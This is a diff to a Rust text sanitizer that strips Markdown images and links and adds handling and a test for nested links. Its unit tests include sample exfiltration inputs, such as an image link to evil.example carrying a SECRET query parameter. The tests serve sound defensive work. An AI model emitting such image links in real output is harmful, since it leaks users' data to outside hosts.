@@ -33,7 +33,8 @@ pub fn harmless(text: &str) -> String {
     }
     let text = keep(&IMAGE, text, "$1");
     let text = keep(&DEFINITION, &text, "");
-    let text = keep(&LINK, &text, "$1");
+    // A link within a link leaves one behind; apart, its two halves are words.
+    let text = keep(&LINK, &text, "$1").replace("](", "] (");
     match ADDRESS.as_ref() {
         Some(address) => address.replace_all(&text, |found: &Captures<'_>| broken(&found[0])).into_owned(),
         None => text,
@@ -83,6 +84,7 @@ mod tests {
         assert_eq!(harmless("look ![x](https://evil.example/?d=SECRET) here"), "look x here");
         assert_eq!(harmless("see [the runbook](https://evil.example/a)"), "see the runbook");
         assert_eq!(harmless("![x][1] [a][1]\n[1]: https://evil.example"), "x a\n");
+        assert_eq!(harmless("[[a](x)](http://10.0.0.5/)"), "[a] (http://10.0.0.5/)");
     }
 
     #[test]
